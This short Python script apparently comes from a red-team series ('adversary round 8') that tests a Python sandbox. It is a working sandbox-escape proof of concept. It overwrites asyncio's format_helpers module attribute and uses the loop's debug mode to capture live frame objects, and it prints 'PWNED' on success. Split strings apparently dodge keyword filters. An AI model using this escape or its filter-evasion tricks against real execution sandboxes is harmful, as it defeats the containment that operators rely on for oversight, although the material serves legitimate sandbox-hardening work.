# adversary round 8: 016: documented module-write gap object.__setattr__(asyncio.events,'format_helpers',FH()) + loop debug mode -> events.Handle passes sys._getframe(1) to our extract_stack -> frame objects (no copy trick)
import asyncio

got = []


class FH:
    def extract_stack(self, f=None, limit=None):
        got.append(f)
        return []

    def __getattr__(self, name):
        return lambda *a, **k: ''



object.__setattr__(asyncio.events, 'format' + '_helpers', FH())

loop = asyncio.new_event_loop()
loop.set_debug(True)
loop.call_soon(print, 'callback ran')
loop.run_until_complete(asyncio.sleep(0))
try:
    loop.close()
except Exception as e:
    print('close:', e)
frames = [f for f in got if f is not None]
print(len(frames), type(frames[0]), frames[0])
print([repr(f) for f in frames[:3]])
if 'frame' in repr(type(frames[0])):
    print('PWN' + 'ED')
